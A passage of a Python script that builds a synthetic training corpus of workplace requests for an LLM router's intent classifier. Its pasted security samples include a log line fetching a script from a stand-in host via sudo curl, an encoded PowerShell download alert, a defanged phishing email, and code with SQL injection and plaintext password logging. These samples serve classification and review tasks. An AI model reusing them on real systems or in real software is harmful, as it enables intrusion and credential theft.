"""Fifteenth hand-written TRAIN corpus (writes ``train_diverse15.jsonl``).

Why: an acceptance tester of an enterprise LLM router asked for "realistic,
varied requests across all intents and domains (terse and long, pasted emails,
logs, code, contracts), 60+ multi-task requests, PII of every type in varied
formats, and hard negatives". This corpus is written in that tester's voice:
requests from people in a mid-size logistics company (ops managers, HR
partners, in-house lawyers, clinic staff of the occupational-health clinic,
SOC analysts, finance controllers, developers, sales) to an internal AI
assistant. About half the rows are terse (5-25 words) and half long (60-180
words, with a pasted email, log, code, contract clause, clinical note, invoice
or table); each pasted item is reused by several rows that ask different
things of it. Over a hundred rows chain two to four asks in many ways, and
many single-task rows only *look* like several asks (see the splitting rules).
It was written without running the classifier on it.

Intent guide (every row, and every clause of a multi-task row, follows it):

- qa: a factual or explanatory question whose answer does not depend on
  weighing this person's situation ("what is a 409A", "how does Kerberos
  work", "what's the deadline for filing X", "is ibuprofen an NSAID").
- reasoning: weighing options, judging a specific situation, deciding,
  diagnosing, planning, "should I", "what would you do", "is this enforceable
  here", "why might X have happened", puzzles.
- math: a numeric answer must be computed (percentages, loan payments, doses,
  unit conversions, statistics).
- extract: pull specific fields / items out of given text ("list the dates",
  "give me the IBAN and the amount", "pull out the action items").
- classify: assign given items to given or implied categories ("is this
  spam", "tag each ticket", "which of these are urgent", "phishing or legit?").
- sentiment: the emotional tone / attitude of given text ("how angry is this
  customer", "is this review positive", "is the author for or against").
- summarize: condense given text ("tl;dr", "three bullets", "for the board").
- draft: write a practical text to send or use (email, letter, policy, memo,
  job ad, notice, reply).
- creative: stories, poems, slogans, names, jokes, toasts, fiction.
- code: write / fix / explain / review code, regex, SQL, spreadsheet formulas,
  shell commands.
- translate: into another language (or "how do I say X in Y").
- chat: small talk, thanks, greetings, questions about the assistant itself.

Domain is whose expert you would ask: personal money, tax, insurance, prices,
budgets, accounting -> finance; rights, disputes, contracts, compliance,
employment law -> legal; symptoms, drugs, care, clinical notes -> medical;
accounts, attacks, phishing, malware, access control, vulnerabilities ->
security; office, social, creative and technical-but-not-security asks ->
general. A neutral task (summarise, extract, translate, sentiment ...) takes
the domain of the material it acts on. Creative asks and chat are general
even when they mention a domain word; code is general unless it encodes the
domain's own rules (a dosing check, an ageing bucket, an FV formula, a
security control). Complexity is low unless the task weighs options (medium)
or is a long structured deliverable (high). Sensitivity: public by default,
internal for internal business material, confidential for personal data
(named people, contact details, a person's records), restricted for cards,
IBANs, SSNs, NRICs and credentials; each task of a multi-task row is labelled
by what that task itself touches. Math always gets the calculator.

Splitting rules (how many tasks a request has; applied to every row):

1. A task is one deliverable the requester wants back. A request naming two
   or more deliverables is split, whatever joins them: ", and", "then",
   "also", "plus", numbered "1) 2)" or bulleted asks under "Can you:",
   separate sentences, "X. Once done, Y.", one ask before and another after
   the pasted material, or a question followed by an instruction.
2. Not split -- one operation over several objects or targets: "compare A
   and B", "translate into French and German", "tag each ticket by team and
   priority", "list the dates and the amounts".
3. Not split -- one deliverable described with several verbs: "write a
   function that parses and validates", "review and fix this code", "read
   this and tell me whether ...", "check and tighten the wording".
4. Not split -- one explanation with several facets: "explain what X is and
   why it matters", "summarise the pros and cons", "what is X and how does it
   work", "what happened and why" about given material.
5. Not split -- format, length, audience and framing ("in three bullets",
   "as a table", "for the board", "I'm pasting it below", "be blunt"), and
   "show your working" / "explain your reasoning" attached to an answer.
6. A computation followed by a judgement on its result ("work out the cost
   and tell me if it's worth it") is two tasks (math, then reasoning); a
   conditional follow-up ("if it's phishing, draft a warning") is a task too.
7. The same intent twice on the same material is one task ("fix the bug and
   add type hints" is one code task); the same intent on different outputs is
   two ("draft a reply to the customer and a note to the carrier").
8. A clause is the verbatim span of its ask, from its verb (or question word)
   to its end, without the connector ("and", "then", "also", "2)") and
   without the pasted material.

Row format, one per line: ``spec [=> clause] [;; spec => clause ...] | text``
where spec is ``[!]intent d cx s [calc|retr|web|code]`` (d in g/f/l/m/s, cx in
l/m/h, s in p/i/c/r; a leading ``!`` marks a hard negative: ids, versions,
failing checksums, dates, amounts, and no PII). ``{NAME}`` pastes material
from ``_MAT`` after a blank line (``{{NAME}}`` inline) or inserts a marked PII
value / unmarked look-alike from ``_V``; ``\\n`` is a newline.
Usage: ``python tests/data/intent/train_diverse15_source.py`` (rewrites the
jsonl, then validates it and prints per-intent / per-domain counts and the
length and multi-task statistics).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

import re
from collections import Counter

from corpus import (
    HERE,
    Placeholders,
    Row,
    Values,
    check_lookalikes,
    line_rows,
    mark,
    pv,
    write_and_check,
)

# ---------------------------------------------------------------- generated values
_VAL = Values(1515015)
_R = _VAL.rng

_V: dict[str, str] = {}
for _i in range(1, 21):
    _V[f"N{_i}"] = mark("PERSON", pv.person(_R))
for _i in range(1, 11):
    _V[f"E{_i}"] = mark("EMAIL", pv.email(_R))
for _i in range(1, 9):
    _V[f"PH{_i}"] = mark("PHONE", pv.phone(_R))
for _i in range(1, 4):
    _V[f"TEL{_i}"] = "tel " + mark("PHONE", pv.national_phone(_R))
for _i in range(1, 8):
    _V[f"IP{_i}"] = mark("IP_ADDRESS", pv.ipv4(_R))
_V["IP6A"] = mark("IP_ADDRESS", pv.ipv6(_R))
_V["IP6B"] = mark("IP_ADDRESS", pv.ipv6(_R))
_V.update(
    CC1=mark("CREDIT_CARD", _VAL.card("4", 16, " ")),
    CC2=mark("CREDIT_CARD", _VAL.card("53", 16, "-")),
    CC3=mark("CREDIT_CARD", _VAL.card("37", 15, " ")),
    CC4=mark("CREDIT_CARD", _VAL.card("6011", 16, "")),
    CC5=mark("CREDIT_CARD", _VAL.card("2221", 16, " ")),
    CC6=mark("CREDIT_CARD", _VAL.card("4", 16, "-")),
    IB1=mark("IBAN", _VAL.iban("GB", True)),
    IB2=mark("IBAN", _VAL.iban("DE", False)),
    IB3=mark("IBAN", _VAL.iban("FR", True)),
    IB4=mark("IBAN", _VAL.iban("NL", False)),
    IB5=mark("IBAN", _VAL.iban("ES", True)),
    IB6=mark("IBAN", _VAL.iban("IE", False)),
    SSN1=mark("US_SSN", _VAL.ssn("-")),
    SSN2=mark("US_SSN", _VAL.ssn(" ")),
    SSN3=mark("US_SSN", _VAL.ssn("-")),
    NR1=mark("SG_NRIC", _VAL.nric("S")),
    NR2=mark("SG_NRIC", _VAL.nric("T")),
    NR3=mark("SG_NRIC", _VAL.nric("F")),
    NR4=mark("SG_NRIC", _VAL.nric("G")),
    NR5=mark("SG_NRIC", _VAL.nric("M")),
)

# unmarked look-alikes for the hard negatives (each fails its checksum)
_HN = {
    "BC1": _VAL.bad_card("4", " "),
    "BC2": _VAL.bad16("-"),
    "BC3": _VAL.bad_card("5", "", shift=4),
    "BI1": _VAL.bad_iban("DE", True),
    "BI2": _VAL.bad_iban("GB", False),
    "BI3": _VAL.bad_iban("NL", True, shift=23),
    "BN1": pv.bad_nric(_R),
    "BN2": pv.bad_nric(_R),
}
_V.update(_HN)

# ---------------------------------------------------------------- pasted material
_MAT: dict[str, str] = {
    # ---- finance
    "F_INV": """INVOICE INV-2025-0418 - Northbridge Facilities Ltd
Bill to: Accounts Payable, Harbor Logistics
Date: 3 June 2025 | Terms: Net 30 | PO: 4500123987
Line | Description | Qty | Unit | Amount
1 | Quarterly HVAC maintenance, Warehouse B | 1 | 4,200.00 | 4,200.00
2 | Emergency call-out 14 May (after hours) | 3 hrs | 185.00 | 555.00
3 | Replacement compressor parts | 1 | 2,940.00 | 2,940.00
4 | Travel surcharge | 1 | 120.00 | 120.00
Subtotal 7,815.00 | VAT 20% 1,563.00 | Total due GBP 9,378.00
Late payment interest at 8% above base rate applies after the due date.""",
    "F_Q3": """Q3 FY25 operating expenses vs budget (USD thousands)
Department | Budget | Actual | Variance
Sales | 1,240 | 1,385 | +145
Marketing | 860 | 1,012 | +152
Operations | 2,310 | 2,198 | -112
IT | 740 | 805 | +65
HR | 390 | 371 | -19
Total | 5,540 | 5,771 | +231
Notes: the marketing overspend is the trade-show programme brought forward from Q4; IT includes an unplanned licence true-up of 58; the operations under-run reflects two unfilled warehouse roles.""",
    "F_AR": """Subject: AR ageing - action needed before month-end
Team, the 90+ bucket is now $412k across 9 accounts, up from $268k last month. The three largest are Kestrel Retail ($138k, disputing a pricing change), Oakline Hotels ($96k, promised payment by the 20th) and Vantage Clinics ($71k, no response to two reminders). Collections want permission to put Kestrel on credit hold; sales is against it because of the Q4 renewal. I also need a view on whether we raise the bad-debt provision from 2% to 3% of receivables (total receivables are $5.9M).
- Finance Controller""",
    "F_EXP": """Travel & Expense Policy, section 5 (Meals and lodging)
5.1 Hotel: up to $220 per night in tier-1 cities and $160 elsewhere, excluding taxes.
5.2 Meals: a daily allowance of $75 while travelling; alcohol is reimbursable only at client entertainment approved in advance by a VP.
5.3 Receipts are required for any item over $25; missing receipts need a signed declaration.
5.4 Claims must be submitted within 30 days of the trip; claims older than 90 days will not be paid.
5.5 Business class is allowed for flights over 8 hours with director approval.""",
    "F_BUDGET": """FY26 headcount plan - Customer Support
Role | Current FTE | Planned FTE | Loaded cost per FTE
Tier 1 agent | 14 | 18 | $58,000
Tier 2 specialist | 5 | 6 | $79,000
Team lead | 2 | 3 | $96,000
QA analyst | 1 | 1 | $72,000
Assumptions: 3.5% salary increase from April, hires phased evenly across Q1-Q2, attrition 18% a year, backfill time 6 weeks. Tooling is $1,150 per agent seat per year.""",
    "F_FLEET": """Quote ref EQ-7731 - forklift fleet (6 units)
Option A: buy outright at $41,500 per unit, 5-year useful life, estimated resale value 15%.
Option B: finance lease, 60 monthly payments of $4,980 for the whole fleet, $1 buyout at the end, maintenance not included.
Option C: operating lease, $5,650 per month for 48 months, full maintenance included, units returned at the end.
Our cost of capital is 7.5% and maintenance on owned units averages $2,100 per unit per year.""",
    "F_FX": """Treasury note - H2 euro exposure
Our EUR receivables for H2 are forecast at EUR 3.2M, arriving in roughly equal monthly amounts. Spot is 1.085 USD per EUR and the 6-month forward is 1.094. The bank offers a zero-cost collar at 1.06-1.12. Last year the unhedged exposure cost us about $140k when the euro fell 4% in Q4. Board policy allows hedging between 50% and 80% of forecast exposure, and the CFO wants a recommendation before the September committee.""",
    "F_BANKCHANGE": """From: {E1}
Subject: Updated remittance details - urgent
Hello Accounts Payable,
Please note that with effect from this week all payments for Lumen Print Supplies should go to our new account. New IBAN: {IB1}, account name Lumen Print Supplies. Kindly update your vendor master before the Friday payment run and confirm by return. Our previous account is under audit and must not be used.
Regards,
{N1}, Credit Control""",
    # ---- legal
    "L_NDA": """4. Confidentiality. The Receiving Party shall hold the Confidential Information in strict confidence, use it solely for the Purpose, and not disclose it to any third party other than its employees and professional advisers who need to know it and are bound by obligations no less protective than these. The obligations in this clause survive for five (5) years after termination, save that obligations regarding trade secrets survive for as long as the information remains a trade secret. Confidential Information does not include information that is or becomes public other than through breach, or that was lawfully in the Receiving Party's possession before disclosure.""",
    "L_MSA": """12.1 Neither party's aggregate liability arising out of or in connection with this Agreement shall exceed the fees paid or payable in the twelve (12) months preceding the claim.
12.2 Neither party shall be liable for loss of profits, revenue, goodwill or any indirect or consequential loss.
12.3 Nothing in this Agreement limits liability for death or personal injury caused by negligence, for fraud, or for breach of clause 9 (Data Protection).
15.2 Either party may terminate for convenience on ninety (90) days' written notice. The Customer may terminate immediately if the Supplier commits a material breach that is not remedied within thirty (30) days of notice.""",
    "L_LEASE": """Clause 7 (Break option). The Tenant may terminate this Lease on the fifth anniversary of the Term Commencement Date by giving the Landlord not less than six months' prior written notice, provided that (a) the Tenant has paid all rent due up to the break date, (b) the Tenant gives vacant possession, and (c) the Tenant pays the Landlord a sum equal to three months' rent as at the break date. If any condition is not strictly met, the notice shall be void and the Lease continues. Term Commencement Date: 1 March 2021. Current rent: GBP 186,000 per annum, payable quarterly in advance.""",
    "L_DPA": """9.4 Sub-processors. The Processor shall not engage a sub-processor without the Controller's prior general written authorisation. The Processor shall inform the Controller of any intended addition or replacement at least 30 days in advance, giving the Controller the opportunity to object on reasonable data-protection grounds. Where the Controller objects and the parties cannot agree, the Controller may terminate the affected services without penalty. The Processor remains fully liable for each sub-processor's performance. Current sub-processors are listed in Annex 3 and include hosting in the EU (Frankfurt) and support tooling in the United States.""",
    "L_NONCOMPETE": """14. Restrictive covenants. For twelve (12) months after the Termination Date the Employee shall not, within the United Kingdom, be engaged in any business that competes with the Company's freight-forwarding business, nor solicit any customer with whom the Employee dealt in the final eighteen (18) months of employment.
15. Garden leave. The Company may require the Employee to remain at home on full pay for all or part of the notice period (six months), and any period of garden leave shall be deducted from the restricted period.""",
    "L_DEMAND": """Dear Sirs,
We act for Greystone Packaging Ltd. Our client supplied goods to your company under purchase orders PO-8812 and PO-8840 totalling GBP 64,320 including VAT. Despite reminders dated 12 March and 9 April, the invoices remain unpaid. Unless payment in full, together with statutory interest of GBP 2,148 and fixed compensation of GBP 240, is received within 14 days of the date of this letter, our client will issue proceedings without further notice. We note your purchasing team alleged that 11 pallets were damaged on delivery; no written complaint was ever raised.
Yours faithfully,
Marlow & Reid LLP""",
    "L_DSAR": """From: {E2}
Subject: Subject access request
To whom it may concern, I worked in your Leeds depot until January. Under Article 15 GDPR I request a copy of all personal data you hold about me, including emails in which I am mentioned, CCTV footage of the loading bay from 2 to 6 December, my disciplinary file and any notes from my exit interview. Please also tell me who you have shared my data with and how long you will keep it. I expect a response within one month.
{N2}""",
    "L_SPEAKUP": """Speak-Up Policy (draft v3), section 3
3.1 Any worker, contractor or agency worker may raise a concern about suspected wrongdoing, including fraud, bribery, health and safety risks and breaches of law.
3.2 Concerns may be raised with a line manager, the Head of Compliance, or anonymously through the external hotline.
3.3 The Company will acknowledge a report within 7 days and give feedback within 3 months.
3.4 No one who raises a concern in good faith will suffer detriment; retaliation is a disciplinary offence.
3.5 Knowingly false reports may lead to disciplinary action.""",
    # ---- medical (occupational-health clinic)
    "M_NOTE": """Clinic note - 14/05, OH physician review
Patient: {N3}, 58 y/o male, forklift driver. PC: 3 weeks of exertional chest tightness, relieved by rest within 5 min; no pain at rest. PMH: T2DM (metformin 1 g BD), hypertension (amlodipine 5 mg OD), ex-smoker 30 pack-years. O/E: BP 152/94, HR 78 regular, BMI 31, heart sounds normal, chest clear. ECG: sinus rhythm, no acute changes. Bloods: HbA1c 64 mmol/mol, total cholesterol 6.1, LDL 4.0. Plan: advised GP same week for aspirin, GTN and statin, rapid-access chest pain clinic referral, off forklift duties until cardiology review; call 999 if pain at rest > 15 min.""",
    "M_DISCHARGE": """Discharge summary - Ward 6 (copy received for return-to-work review)
Admitted with community-acquired pneumonia (CURB-65 score 2). Treated with IV co-amoxiclav and clarithromycin for 48 h, switched to oral co-amoxiclav 625 mg TDS to complete 7 days in total. CRP fell from 212 to 38. Oxygen weaned on day 3. Acute kidney injury on admission (creatinine 148, baseline 92) resolved with fluids; ramipril withheld and to be restarted by the GP if creatinine is stable at 1 week. Follow-up chest X-ray in 6 weeks to confirm resolution. Smoking cessation advice given.""",
    "M_LABS": """Results - fasting bloods, collected 08:10
Test | Result | Reference range
Haemoglobin | 108 g/L | 130-170
MCV | 72 fL | 80-100
Ferritin | 9 ug/L | 30-400
eGFR | 54 mL/min/1.73m2 | >90
Potassium | 5.6 mmol/L | 3.5-5.3
HbA1c | 49 mmol/mol | <42
TSH | 2.1 mU/L | 0.4-4.0
Comment: sample not haemolysed; male, 61, night-shift supervisor, reports tiredness.""",
    "M_MEDS": """Medication reconciliation (pre-admission list vs current chart)
- Warfarin 3 mg daily - INR today 3.8 (target 2-3); on chart
- Clarithromycin 500 mg BD - started in ED
- Simvastatin 40 mg nightly - on chart
- Omeprazole 20 mg daily - on chart
- Ibuprofen 400 mg TDS PRN (over the counter) - patient reports taking it daily for knee pain
- Amiodarone 200 mg daily - on pre-admission list, missing from current chart
Pharmacist flag: please review before the evening round.""",
    "M_PORTAL": """Clinic inbox, Monday 07:30
1. "My blood pressure machine says 168/102 this morning and I have a bit of a headache. Should I come in?"
2. "Can I get a repeat of my hay fever tablets before my holiday?"
3. "Cut my hand on a pallet strap yesterday, it's red, hot and there's a red line going up my arm."
4. "Please cancel my hearing test on Thursday."
5. "Since starting the new tablets I feel dizzy when I stand up. Is that normal?"
6. "Thank you to the nurse who did my dressing last week, she was brilliant." """,
    "M_PROTOCOL": """Infection prevention - clinic protocol IP-04 (summary of changes)
From 1 September all staff must perform hand hygiene before and after every patient contact, including in the waiting area. Patients with a new cough or fever are to be masked at reception and seen in Room 3. Room 3 surfaces are wiped with chlorine-based solution (1,000 ppm) after each use. Sharps bins are to be closed at three-quarters full and collected on Tuesdays. Staff with vomiting or diarrhoea must stay off work until 48 hours after the last episode. Compliance will be audited monthly, with results shared at the team meeting.""",
    "M_FEEDBACK": """Survey comments, on-site physiotherapy, May
- "The exercises actually worked, my shoulder is so much better."
- "Waited 40 minutes past my slot and nobody apologised."
- "The receptionist was lovely but the room is freezing."
- "I was told to come back in 6 weeks and then nobody could book me in."
- "Fine, nothing special."
- "The therapist explained everything clearly and never rushed me."
- "Online booking kept crashing, had to phone three times." """,
    "M_STUDY": """Abstract. Background: Whether a structured walking programme improves symptoms in peripheral arterial disease (PAD) outside supervised settings is unclear. Methods: We randomised 312 adults with PAD to a home-based walking programme with weekly phone coaching or usual care for 12 months. Results: Six-minute walk distance increased by 42 m in the intervention group versus 6 m with usual care (difference 36 m; 95% CI 19-53; p<0.001). Adherence was 71%. Quality-of-life scores improved modestly. Serious adverse events were similar (9% vs 10%). Conclusions: Home-based coached walking improved walking distance over 12 months.""",
    # ---- security
    "S_AUTHLOG": """Jun 11 02:13:07 vpn-gw01 sshd[4412]: Failed password for admin from {IP1} port 52144 ssh2
Jun 11 02:13:09 vpn-gw01 sshd[4412]: Failed password for admin from {IP1} port 52150 ssh2
Jun 11 02:13:12 vpn-gw01 sshd[4415]: Failed password for root from {IP1} port 52161 ssh2
Jun 11 02:14:40 vpn-gw01 sshd[4420]: Failed password for invalid user backup from {IP2} port 40022 ssh2
Jun 11 02:15:02 vpn-gw01 sshd[4431]: Accepted password for svc_deploy from {IP2} port 40310 ssh2
Jun 11 02:15:30 vpn-gw01 sudo: svc_deploy : TTY=pts/0 ; PWD=/home/svc_deploy ; USER=root ; COMMAND=/usr/bin/curl -s http://update-cdn.example/x.sh
Jun 11 02:16:11 vpn-gw01 sshd[4431]: session closed for user svc_deploy""",
    "S_PHISH": """From: "Microsoft 365 Security" <no-reply[@]m365-secure-login[.]co>
Subject: Action required: your mailbox will be suspended in 24 hours
We detected unusual sign-in activity on your account. To avoid suspension, verify your identity now using the secure portal below. Failure to verify within 24 hours will result in permanent loss of emails and files.
[Verify now] -> hxxps://m365-secure-login[.]co/verify?id=8823
This is an automated message. Do not reply.
Microsoft Corporation""",
    "S_ALERT": """{"alert_id": "EDR-55120", "severity": "high", "host": "FIN-LT-0231", "user": "ap_clerk3", "process": "WINWORD.EXE", "child": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "parent_file": "Remittance_June.docm", "network": "outbound 443 to cdn-static-files[.]top", "action": "blocked", "first_seen": "2025-06-12T09:41:22Z", "mitre": ["T1566.001", "T1059.001"], "user_department": "Accounts Payable", "sensor": "v7.14", "policy": "Block-Office-Child-Processes", "description": "An Office application spawned an encoded PowerShell command that tried to download a second stage over HTTPS; the process tree and the connection were blocked, and the document was quarantined."}""",
    "S_VULN": """Weekly vulnerability scan - external perimeter
Host | Finding | CVSS | Open for
mail-gw | OpenSSH 8.2 - CVE-2023-38408 | 9.8 | 41 days
vpn-gw01 | TLS 1.0 enabled | 5.3 | 120 days
www-prod | Apache 2.4.49 path traversal - CVE-2021-41773 | 7.5 | 6 days
files-ext | Anonymous FTP enabled | 6.5 | 200 days
hr-portal | Missing HSTS header | 3.1 | 300 days
Policy: fix critical within 14 days, high within 30, medium within 90.""",
    "S_IR": """Incident INC-2291 timeline (draft)
09:41 EDR blocks macro-spawned PowerShell on FIN-LT-0231.
09:55 SOC isolates the host; the user says they opened a 'remittance' attachment from a known supplier.
10:20 Mail trace: same message delivered to 37 mailboxes, 4 opened it.
10:45 Supplier confirms their mailbox was compromised two days earlier.
11:30 Messages purged; sender domain blocked; 4 hosts scanned, no further detections.
13:00 Password resets forced for the 4 users; MFA already enabled on all.
Open: confirm no data left the network; decide whether to tell the supplier's other customers.""",
    "S_FW": """# edge firewall, ruleset excerpt
allow tcp any -> web-dmz:443
allow tcp any -> web-dmz:80
allow tcp any -> mail-gw:25
allow tcp any -> db-prod:3306        # temp for vendor migration, 2023
allow tcp vendor-net -> jump01:22
allow udp any -> dns01:53
allow tcp any -> any:3389            # legacy RDP for the depot PCs
deny ip any -> any""",
    "S_POLICY": """Access Control Standard AC-2 (excerpt)
- Passwords: minimum 14 characters; no forced periodic rotation unless compromise is suspected.
- MFA is mandatory for email, VPN and all admin consoles; SMS codes are allowed only as a fallback.
- Privileged accounts are separate from day-to-day accounts and are reviewed quarterly.
- Leavers' accounts are disabled within 24 hours of the last working day.
- Shared accounts are prohibited except break-glass accounts stored in the vault.
- Service accounts must not have interactive logon rights.""",
    "S_CODE": """def find_user(conn, username):
    query = "SELECT id, email, role FROM users WHERE username = '" + username + "'"
    cur = conn.cursor()
    cur.execute(query)
    row = cur.fetchone()
    if row and row[2] == 'admin':
        log.info('admin lookup %s', username)
    return row


def reset_password(conn, username, new_password):
    hashed = hashlib.md5(new_password.encode()).hexdigest()
    conn.cursor().execute("UPDATE users SET pw = '%s' WHERE username = '%s'" % (hashed, username))
    log.info('password for %s reset to %s', username, new_password)""",
    # ---- general
    "G_MEETING": """Ops weekly - notes
Attendees: warehouse, transport, customer service, IT.
1. Peak season: volumes forecast +35% from mid-November; we need 12 temps from 1 Nov.
2. Scanner refresh: 40 handheld scanners fail daily; IT to get quotes by 15 Oct.
3. Late deliveries: on-time rate dropped to 91% (target 96%), mostly on the northern route.
4. Customer service backlog at 420 tickets; proposal to add weekend shifts.
5. Fire drill postponed again - must happen before peak.
Actions: transport to re-plan the northern route; HR to post temp roles this week; CS lead to cost weekend cover.""",
    "G_PYBUG": """# called from the nightly KPI report; it crashed last night with
# ZeroDivisionError when the EU shop had no orders at all
def average_order_value(orders):
    total = 0
    for o in orders:
        if o["status"] == "cancelled":
            continue
        total += o["amount"]
    return total / len(orders)

def report(shops):
    for name, orders in shops.items():
        print(name, round(average_order_value(orders), 2))

report({"uk": [{"status": "paid", "amount": 120.0}], "eu": []})""",
    "G_SQL": """-- revenue by region for the Q2 board pack; finance says the new Nordics
-- region is missing although it has customers and no orders yet, and
-- they want every region listed even when revenue is zero
SELECT c.region, COUNT(o.id) AS orders, SUM(o.total) AS revenue
FROM customers c
LEFT JOIN orders o ON o.customer_id = c.id
WHERE o.created_at >= '2025-01-01'
GROUP BY c.region
ORDER BY revenue DESC;""",
    "G_STACK": """2025-06-12 14:02:11 ERROR [order-sync] worker-3 Unhandled exception in job sync_orders
Traceback (most recent call last):
  File "/app/sync/jobs.py", line 88, in sync_orders
    batch = client.fetch(since=last_run, limit=500)
  File "/app/sync/client.py", line 41, in fetch
    resp.raise_for_status()
requests.exceptions.HTTPError: 429 Client Error: Too Many Requests for url: https://api.partner.example/v2/orders?limit=500
2025-06-12 14:02:11 WARN [order-sync] retry 5/5 exhausted, job marked failed
2025-06-12 14:07:11 ERROR [order-sync] worker-1 same error, 12 jobs failed in the last hour""",
    "G_SURVEY": """Engagement survey - free-text answers, Operations (9 shown)
- "My manager is great but I never hear about decisions until they're made."
- "Shift patterns change with two days' notice. Impossible to plan childcare."
- "Good team, good pay for the area."
- "The new canteen is a big improvement!"
- "Training for the new system was one rushed afternoon."
- "I'd recommend working here to a friend."
- "Nobody follows up on the safety issues we report."
- "Overtime is paid late every month."
- "Love the flexibility since we moved to self-rostering." """,
    "G_CUSTOMER": """Subject: THIRD time asking - where is my order??
I ordered two office chairs (order 558-20931) on the 2nd and was promised delivery within 5 working days. It's now the 19th. Your tracking page has said 'in transit' for a week, your chat bot just loops, and nobody answers the phone. I run a small dental practice and my staff are sitting on kitchen chairs. If I don't get a delivery date by tomorrow I want a full refund and I will be leaving reviews everywhere.
A very unhappy customer""",
    "G_ANNOUNCE": """Office move - what you need to know
We move from Canal Street to the new Riverside building over the weekend of 18-19 October. Pack your desk into the labelled crates by 4 pm Friday; IT will move monitors and docks. Parking at Riverside is limited to 60 spaces, allocated through a weekly booking system; bike storage has 80 spaces and showers. The canteen opens on 27 October; until then there is a GBP 7 daily meal voucher. Access cards will be reissued on Monday morning at reception.""",
    "G_TICKETS": """Helpdesk queue, 08:00
T-4411 "Printer on 2nd floor jams every time"
T-4412 "Can't log into the payroll portal, says account locked"
T-4413 "Need Adobe Acrobat Pro for contract redlines"
T-4414 "Got an email asking me to confirm my password, clicked the link, now worried"
T-4415 "Monitor flickers"
T-4416 "New starter Monday - needs laptop and accounts"
T-4417 "Shared drive 'Finance-Close' is read-only for me since yesterday"
T-4418 "Teams calls drop after 10 minutes on home wifi" """,
    "G_RELEASE": """Release notes - RouteDesk 3.8
New: bulk-edit for delivery windows; the driver app shows live traffic; CSV export of proof-of-delivery photos.
Changed: the default map is now satellite view; the 'Optimise' button moved to the toolbar; session timeout reduced from 8 h to 2 h.
Fixed: duplicate stops when importing from Excel; crash on Android 14 when scanning damaged barcodes; wrong time zone on exported reports.
Deprecated: the v1 API will be switched off on 31 March; migrate to v2.""",
    "G_HRMAIL": """Hi,
Following our chat - {N4} (Warehouse, night shift) has asked to reduce to four nights a week from next month for caring reasons. She has been with us six years, her performance is solid, and she runs the forklift training rota. Her team lead is worried about cover on Thursdays. She'd like an answer by the 30th and can be reached on {PH1}.
Thanks,
Night Operations Manager""",
    # ---- hard-negative material (ids, versions, failing checksums, dates, amounts)
    "H_UPGRADE": """Change CHG-30417 - endpoint agent upgrade
Current agent build 4.2.0.17 on 1,184 laptops; target 4.3.1.2, released 2025-05-28. Pilot ring (62 devices) upgraded on 2025-06-03 with 3 failures (error 0x80070643). Ring 2 scheduled 2025-06-17, ring 3 on 2025-06-24. Rollback package 4.2.0.17-r2 is staged on the distribution point. Licence renewal SO-88120431 of USD 48,960.00 is due 2025-07-01.""",
    "H_RECON": """Bank reconciliation exceptions - June
Txn 2025-06-04 | ref {BC1} | USD 12,480.00 | no matching invoice
Txn 2025-06-09 | beneficiary {BI1} | EUR 3,915.20 | returned by bank: invalid account
Txn 2025-06-18 | ref {BC2} | USD 640.75 | duplicate of batch BAT-7719
Txn 2025-06-27 | PO 4500198812 | USD 18,002.10 | amount differs from PO by 2.4%
Prepared 2025-07-02, reviewed 2025-07-03.""",
}

# ---------------------------------------------------------------- rows
FINANCE = """
# invoice
extract f l i | Pull the invoice number, PO, payment terms and total due from this:{F_INV}
math f l i | Check the arithmetic on this invoice - do the lines, the VAT and the total add up?{F_INV}
extract f l i => Pull the PO number ;; math f l i => work out what we'd owe in interest if we pay 45 days late with base rate at 5.25% ;; draft f l i => draft a short email to Northbridge asking why the call-out was billed at after-hours rates | Three things on this invoice: 1) Pull the PO number, 2) work out what we'd owe in interest if we pay 45 days late with base rate at 5.25%, 3) draft a short email to Northbridge asking why the call-out was billed at after-hours rates.{F_INV}
classify f l i | Tag each invoice line as opex or capex for the fixed-asset register:{F_INV}
reasoning f m i | Should we dispute the call-out charge or just pay? Our contract says call-outs are included during business hours, and 14 May was a Wednesday afternoon as far as I know.{F_INV}
translate f l i | Translate this invoice into German for the Hamburg AP team, keeping the table layout:{F_INV}
# variance table
summarize f l i | Three bullets for the CFO on this:{F_Q3}
summarize f l i => Summarise where we're over budget ;; draft f m i => write the commentary paragraph for the board pack explaining the marketing and IT variances | Summarise where we're over budget and then write the commentary paragraph for the board pack explaining the marketing and IT variances.{F_Q3}
math f l i | What percentage over or under budget is each department, and the total?{F_Q3}
code g l i | Excel formula to flag any row whose variance is more than 10% of budget, with budget in column B and actual in column C. The table looks like this:{F_Q3}
reasoning f m i | Given these numbers, where would you look for the 231k to claw back in Q4 without touching headcount?{F_Q3}
qa f l p => What's the difference between a budget variance and a forecast variance? ;; math f l i => Work out marketing's overspend as a percentage of its budget | What's the difference between a budget variance and a forecast variance? Work out marketing's overspend as a percentage of its budget while you're at it.{F_Q3}
# AR ageing
reasoning f m i | Read this and tell me: credit hold on Kestrel or not? I need a recommendation I can defend to the sales director.{F_AR}
extract f l i => list each named account with its balance and status ;; math f l i => calculate the provision at 2% and at 3% and the difference ;; reasoning f m i => say which one you'd book and why | Can you:\\n- list each named account with its balance and status\\n- calculate the provision at 2% and at 3% and the difference\\n- say which one you'd book and why{F_AR}
summarize f l i | tl;dr please, I have two minutes before the leadership call{F_AR}
sentiment f l i | How worried does the controller sound here - routine month-end noise or a real alarm?{F_AR}
draft f l i | Draft a firm but polite final reminder to Vantage Clinics about their overdue $71k, mentioning that we may pause deliveries.{F_AR}
math f l i | By what percentage did the 90+ bucket grow month on month, and what share of total receivables is it now?{F_AR}
# T&E policy
qa f l i retr | Under our T&E policy, can I expense wine at a team dinner if no client is there?
classify f l i | Which of these claims breach the policy: hotel $240 a night in Chicago, a $90 dinner alone, an $18 taxi with no receipt, a claim for a trip 95 days ago?{F_EXP}
summarize f l i => Turn section 5 into a one-paragraph FAQ answer for new starters ;; translate f l i => give me the same paragraph in Spanish | Turn section 5 into a one-paragraph FAQ answer for new starters, and give me the same paragraph in Spanish.{F_EXP}
math f l i | Three nights in Boston (tier 1) plus four days of meals: what's the most I can claim under this?{F_EXP}
draft f h i | Rewrite section 5 as a clearer policy section with a per-diem table, keeping exactly the same limits and approval rules:{F_EXP}
# headcount plan
math f m i | What's the FY26 loaded cost of the planned team versus the current one, tooling included?{F_BUDGET}
